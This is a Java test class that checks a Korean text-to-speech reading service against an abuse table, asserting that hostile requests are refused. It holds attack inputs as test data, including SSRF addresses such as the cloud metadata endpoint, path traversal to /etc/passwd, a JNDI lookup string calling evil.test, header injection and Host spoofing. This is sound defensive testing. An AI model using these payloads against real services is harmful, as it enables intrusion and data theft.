package org.nangdok.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.assertj.core.api.AbstractStringAssert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Rows 1-36 and 77-107 of the abuse table against the running service, as far as they can be tried
 * without a page: the hostile pages themselves are tried in the page room.
 */
@ExtendWith(OutputCaptureExtension.class)
@SpringBootTest(
    webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
    properties = {"nangdok.data=${test.data:target/test-data}/http", "nangdok.sample=false"})
class AbuseHttpTest {

  private static final String TITLE = "작은 도서관";
  private static final String TEXT = TITLE + "\n\n마을 입구에 작은 도서관이 문을 열었습니다.\n";

  @LocalServerPort private int port;
  @Autowired private JsonMapper json;
  private final HttpClient client = HttpClient.newHttpClient();

  /** The sentences that the table names, word for word. */
  @ParameterizedTest(name = "row {0}: {2}")
  @CsvSource(
      delimiter = '|',
      value = {
        "1|{}|Give the address of a page in `url`, its source in `html`, an article in `text`, or SSML in `ssml`.",
        "2|{\"url\":\" \"}|The address is empty.",
        "4|{\"url\":\"file:///etc/passwd\"}|Only http and https addresses can be read.",
        "8|{\"url\":\"http://\"}|The address has no host name.",
        "9|{\"url\":\"http://user:pw@news.test/\"}|Addresses with a user name or password are not accepted.",
        "11|{\"url\":\"http://127.0.0.1\\\\@example.com/\"}|The address has a character that is not allowed.",
        "15|{\"url\":\"http://news.test:22/\"}|Only ports 80 and 443 can be read.",
        "20|{\"url\":\"http://127.0.0.1/\"}|This address is not on the public internet.",
        "22|{\"url\":\"http://0x7f000001/\"}|The host name could not be read.",
        "65|{\"html\":\"<p></p>\"}|No article text was found on this page. Paste the text instead.",
        "71|{\"ssml\":\"<!DOCTYPE speak><speak/>\"}|Document types are not allowed in SSML.",
        "75|{\"ssml\":\"<speak><audio src='a'/></speak>\"}|The element audio is not allowed.",
        "76|{\"ssml\":\"<speak>a<break time='9999s'/></speak>\"}|A pause may last at most 10 seconds.",
        "80|{\"text\":\"오늘은 맑습니다.\",\"speed\":0}|speed must be between 0.5 and 2.",
      })
  void saysWhatIsWrong(int row, String body, String sentence) throws Exception {
    JsonNode problem = json.readTree(post("/api/readings", body).body());

    assertThat(problem.get("detail").asString()).as("row %d", row).isEqualTo(sentence);
  }

  @ParameterizedTest(name = "row {0}: {1} is {2} {3}")
  @CsvSource(
      delimiter = '|',
      value = {
        "1|{}|400|request.missing-parameter",
        "1|{\"url\":null}|400|request.missing-parameter",
        "2|{\"url\":\"\"}|400|page.bad-url",
        "2|{\"url\":\"   \"}|400|page.bad-url",
        "5|{\"url\":\"javascript:alert(1)\"}|400|page.scheme",
        "6|{\"url\":\"HTTP://127.0.0.1/\"}|403|page.blocked-address",
        "9|{\"url\":\"http://user:pw@news.test/\"}|400|page.credentials",
        "13|{\"url\":\"http://news.test/\\r\\nX-Evil: 1\"}|400|page.bad-url",
        "15|{\"url\":\"http://news.test:6379/\"}|400|page.port",
        "27|{\"url\":\"http://[::127.0.0.1]/\"}|403|page.blocked-address",
        "30|{\"url\":\"http://169.254.169.254/latest/meta-data/\"}|403|page.blocked-address",
        "42|{\"url\":\"http://localhost:80/\"}|403|page.blocked-address",
        "65|{\"html\":\"<p></p>\"}|422|article.empty",
        "78|{\"text\":\"가\",\"text\":\"나\"}|400|request.bad-json",
        "78|{\"text\":5}|400|request.bad-json",
        "78|{\"text\":[\"가\"]}|400|request.bad-json",
        "78|[]|400|request.bad-json",
        "78|{\"text\":\"가\"} x|400|request.bad-json",
        "78|{\"voices\":\"a\",\"text\":\"오늘은 맑습니다.\"}|400|request.bad-json",
        "79|{\"text\":\"오늘은 맑습니다.\",\"voices\":{\"narrator\":\"../../etc\"}}|400|voice.unknown",
        "79|{\"text\":\"오늘은 맑습니다.\",\"voices\":{\"narrator\":\"<b>\"}}|400|voice.unknown",
        "80|{\"text\":\"오늘은 맑습니다.\",\"speed\":0}|400|request.bad-value",
        "80|{\"text\":\"오늘은 맑습니다.\",\"speed\":-1}|400|request.bad-value",
        "80|{\"text\":\"오늘은 맑습니다.\",\"speed\":1e9}|400|request.bad-value",
        "80|{\"text\":\"오늘은 맑습니다.\",\"speed\":\"NaN\"}|400|request.bad-value",
      })
  void refusesTheRequest(int row, String body, int status, String code) throws Exception {
    HttpResponse<byte[]> answer = post("/api/readings", body);

    problem(answer, status, code);
  }

  @Test
  void row77RefusesLargeBodiesAnnouncedOrNot() throws Exception {
    byte[] body =
        ("{\"text\":\"" + "x".repeat(10_000_000) + "\"}").getBytes(StandardCharsets.UTF_8);

    problem(post("/api/readings", BodyPublishers.ofByteArray(body)), 413, "request.too-large");
    problem(
        post("/api/readings", BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))),
        413,
        "request.too-large");
    assertThat(rawThatWritesAllFirst(body)).startsWith("HTTP/1.1 413").contains("larger than");
  }

  /** Many clients read no answer before they have sent everything. */
  private String rawThatWritesAllFirst(byte[] body) throws IOException {
    String head =
        "POST /api/readings HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + "Content-Length: "
            + body.length
            + "\r\nConnection: close\r\n\r\n";
    return raw(head + new String(body, StandardCharsets.ISO_8859_1));
  }

  @ParameterizedTest
  @ValueSource(strings = {"[", "{\"a\":", "{\"text\":["})
  void row78RefusesDeepNesting(String opening) throws Exception {
    problem(post("/api/readings", opening.repeat(10_000)), 400, "request.bad-json");
  }

  @ParameterizedTest(name = "row 81: {0} {1}")
  @CsvSource({"PUT,/api/status", "DELETE,/api/sample", "GET,/api/scripts", "PATCH,/"})
  void row81NamesTheMethodsItTakes(String method, String path) throws Exception {
    HttpResponse<byte[]> answer =
        send(request(path).method(method, BodyPublishers.noBody()).build());

    problem(answer, 405, "request.method");
    assertThat(answer.headers().firstValue("Allow")).isPresent();
  }

  @Test
  void row81DoesNotEchoRequests() throws Exception {
    String answer =
        raw("TRACE / HTTP/1.1\r\nHost: localhost\r\nX-Secret: s3\r\nConnection: close\r\n\r\n");

    assertThat(answer).startsWith("HTTP/1.1 405").doesNotContain("s3");
  }

  @Test
  void row82SaysInJsonThatItHasNoPicture() throws Exception {
    HttpResponse<byte[]> answer =
        send(request("/api/voices").header("Accept", "image/png").build());

    problem(answer, 406, "request.not-acceptable");
  }

  @Test
  void row86ManyWhoAskForOneArticleGetOneReading() throws Exception {
    Callable<String> ask =
        () ->
            json.readTree(post("/api/readings", body("다 함께\n\n모두가 같은 글을 듣습니다.\n")).body())
                .get("id")
                .asString();
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Future<String>> asked = threads.invokeAll(Collections.nCopies(1_000, ask));
      assertThat(asked).extracting(Future::get).containsOnly(asked.getFirst().get());
    }
  }

  @ParameterizedTest(name = "row {0}: {1} is {2} {3}")
  @CsvSource(
      delimiter = '|',
      value = {
        "90|bytes=0-0|206|bytes 0-0/N",
        "90|bytes=-1|206|bytes L-L/N",
        "90|bytes=5-|206|bytes 5-L/N",
        "91|bytes=999999999-|416|bytes */N",
        "92|bytes=0-0,2-2,4-4|200|",
        "92|lines=1-2|200|",
      })
  void answersRanges(int row, String range, int status, String contentRange) throws Exception {
    String clip = clip();
    int length = get(clip).body().length;

    HttpResponse<byte[]> answer = send(request(clip).header("Range", range).build());

    assertThat(answer.statusCode()).as("row %d", row).isEqualTo(status);
    String expected =
        contentRange == null
            ? ""
            : contentRange.replace("N", "" + length).replace("L", "" + (length - 1));
    assertThat(answer.headers().firstValue("Content-Range").orElse("")).isEqualTo(expected);
    if (status == 200) {
      assertThat(answer.body()).hasSize(length);
    }
  }

  @Test
  void row92IgnoresAHundredRanges() throws Exception {
    String clip = clip();
    String ranges = "bytes=" + "0-1,".repeat(99) + "0-1";

    assertThat(send(request(clip).header("Range", ranges).build()).statusCode()).isEqualTo(200);
  }

  @ParameterizedTest(name = "row 94: {0}")
  @CsvSource({
    "/clips/ABCDEF.mp3,404",
    "/clips/00.mp3,404",
    "/clips/%2e%2e%2f%2e%2e%2fetc%2fpasswd.mp3,400",
    "/clips/..%5c..%5cetc.mp3,400",
    "/clips/../../etc/passwd,400",
    "/web/../application.yaml,400",
    "/web/%2e%2e/application.yaml,400",
    "/error/../actuator/env,400",
    "/web/..%2fapplication.yaml,400",
    "/web/..;/application.yaml,400",
  })
  void row94KeysAreNoPaths(String path, int status) throws Exception {
    String answer =
        raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");

    assertThat(answer).startsWith("HTTP/1.1 " + status).doesNotContain("root:", "spring:");
  }

  @Test
  void row94UpperCaseKeysAreUnknown() throws Exception {
    String clip = clip();
    String upper = clip.replaceAll("[0-9a-f]{64}", "A".repeat(64));

    problem(get(upper), 404, "audio.unknown");
  }

  @ParameterizedTest(name = "row 95: {0}")
  @ValueSource(
      strings = {
        "/",
        "/web/page.js",
        "/api/voices",
        "/nowhere",
        "/clips/x.mp3",
        "/r/0000",
        "/actuator/health"
      })
  void row95HoldsEveryAnswerTogether(String path) throws Exception {
    HttpResponse<byte[]> answer = get(path);

    assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(answer.headers().firstValue("Content-Security-Policy").orElse(""))
        .contains("default-src 'self'", "frame-ancestors 'none'")
        .doesNotContain("unsafe");
    assertThat(answer.headers().firstValue("Server")).isEmpty();
    assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
  }

  @Test
  void row95NoPageHasScriptsOrStylesOfItsOwn() throws Exception {
    String reading = ask(TEXT).get("page").asString();

    for (String page : List.of("/", reading)) {
      String html = new String(get(page).body(), StandardCharsets.UTF_8);
      assertThat(html).doesNotContainPattern("<style|\\sstyle=|\\son[a-z]+=|javascript:");
      assertThat(html)
          .doesNotContainPattern("<script(?![^>]*(?:\\ssrc=|type=\"application/ld.json\"))");
    }
  }

  @Test
  void row100NamesNoOriginThatIsNotListed() throws Exception {
    HttpResponse<byte[]> api =
        send(request("/api/voices").header("Origin", "https://evil.test").build());

    assertThat(api.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
    assertThat(get(clip()).headers().firstValue("Access-Control-Allow-Origin")).contains("*");
  }

  @Test
  void row101LinksDoNotFollowTheRequest() throws Exception {
    HttpRequest spoofed =
        request("/api/readings")
            .headers(
                "Content-Type", "application/json",
                "X-Forwarded-Host", "evil.test",
                "X-Forwarded-Proto", "https",
                "Forwarded", "host=evil.test",
                "X-Original-URL", "/actuator/env")
            .POST(BodyPublishers.ofString(body(TEXT)))
            .build();
    HttpResponse<byte[]> answer = send(spoofed);

    assertThat(answer.statusCode()).isEqualTo(202);
    assertThat(
            answer.headers().map().toString() + new String(answer.body(), StandardCharsets.UTF_8))
        .doesNotContain("evil.test");
    assertThat(answer.headers().firstValue("Strict-Transport-Security")).isEmpty();
    assertThat(
            raw(
                "GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))
        .startsWith("HTTP/1.1 400");
  }

  @Test
  void row102QueriesThatMeanNothingChangeNothing() throws Exception {
    String clip = clip();

    assertThat(get(clip + "?utm_source=x").headers().firstValue("ETag"))
        .isEqualTo(get(clip).headers().firstValue("ETag"));
  }

  @Test
  void row105LogsHoldNothingOfAnArticle(CapturedOutput output) throws Exception {
    String title = "${jndi:ldap://evil.test/a} \u001b[31m {\\\"level\\\":\\\"ERROR\\\"}";
    String body =
        "{\"text\":\""
            + title.replace("\u001b", "\\u001b")
            + "\\n\\n뒷산에 심은 우산나무가 올해도 잘 자랐습니다. 마을 사람들이 물을 주었습니다.\\n\"}";

    assertThat(post("/api/readings", body).statusCode()).isEqualTo(202);
    problem(
        post("/api/readings", "{\"url\":\"http://10.0.0.1/?token=geheim\"}"),
        403,
        "page.blocked-address");

    assertThat(output.getAll()).doesNotContain("우산나무", "jndi", "\u001b[31m {", "geheim");
    assertThat(Path.of("log", "server.log")).doesNotExist();
  }

  @ParameterizedTest(name = "row 107: {0}")
  @ValueSource(
      strings = {
        "/actuator/env", "/actuator/heapdump", "/actuator/beans", "/actuator/loggers",
        "/actuator/threaddump", "/actuator/mappings", "/actuator/shutdown", "/h2-console",
        "/v3/api-docs", "/swagger-ui/index.html"
      })
  void row107HasNoBackDoors(String path) throws Exception {
    assertThat(get(path).statusCode()).isEqualTo(404);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /%00 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "GET /<script> HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "NONSENSE\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
        "GET /%zz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
        "POST /api/readings HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
      })
  void saysNothingOfItselfToMalformedRequests(String request) throws Exception {
    String answer = raw(request);

    assertThat(answer).matches("(?s)HTTP/1.1 (400|404|505).*");
    assertThat(answer)
        .containsIgnoringCase("Content-Type: application/problem+json")
        .containsIgnoringCase("X-Content-Type-Options: nosniff")
        .contains("\"code\":\"request.malformed\"", "can't read this request");
    assertThat(answer.toLowerCase(Locale.ROOT))
        .doesNotContain("tomcat", "exception", "java.", "<script>");
  }

  @Test
  void aPageElsewhereCannotCallUsUnderItsOwnName() throws Exception {
    assertThat(raw("GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"))
        .startsWith("HTTP/1.1 421")
        .contains("request.host", "Content-Security-Policy");
  }

  @Test
  void aFormElsewhereCannotHandInArticles() throws Exception {
    HttpRequest form =
        request("/api/readings")
            .header("Content-Type", "text/plain")
            .POST(BodyPublishers.ofString(body(TEXT)))
            .build();

    problem(send(form), 415, "document.unsupported");
    HttpRequest file =
        request("/api/readings")
            .header("Content-Type", "text/plain")
            .header("Origin", "https://evil.test")
            .POST(BodyPublishers.ofString(TEXT))
            .build();
    problem(send(file), 403, "request.origin");
  }

  private String body(String text) {
    return "{\"text\":" + json.writeValueAsString(text) + "}";
  }

  private JsonNode ask(String text) throws Exception {
    return json.readTree(post("/api/readings", body(text)).body());
  }

  /** The address of a clip that is made. */
  private String clip() throws Exception {
    String address = "/api/readings/" + ask(TEXT).get("id").asString();
    get(address + "/events"); // ends when the reading is complete
    return json.readTree(get(address).body()).at("/turns/0/sentences/0/clip").asString();
  }

  private AbstractStringAssert<?> problem(HttpResponse<byte[]> answer, int status, String code) {
    String body = new String(answer.body(), StandardCharsets.UTF_8);
    assertThat(answer.statusCode()).as(body).isEqualTo(status);
    assertThat(answer.headers().firstValue("Content-Type").orElse(""))
        .startsWith("application/problem+json");
    JsonNode problem = json.readTree(body);
    assertThat(problem.get("code").asString()).isEqualTo(code);
    assertThat(problem.get("detail").asString()).endsWith(".");
    return assertThat(body).doesNotContain("org.nangdok", "Exception", "java.");
  }

  private HttpResponse<byte[]> post(String path, String body) throws Exception {
    return post(path, BodyPublishers.ofString(body));
  }

  private HttpResponse<byte[]> post(String path, BodyPublisher body) throws Exception {
    return send(request(path).header("Content-Type", "application/json").POST(body).build());
  }

  private HttpResponse<byte[]> get(String path) throws Exception {
    return send(request(path).build());
  }

  private HttpResponse<byte[]> send(HttpRequest request) throws IOException, InterruptedException {
    return client.send(request, HttpResponse.BodyHandlers.ofByteArray());
  }

  private HttpRequest.Builder request(String path) {
    return HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path));
  }

  /** What comes back for bytes that no client library would send. */
  private String raw(String request) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
    }
  }
}
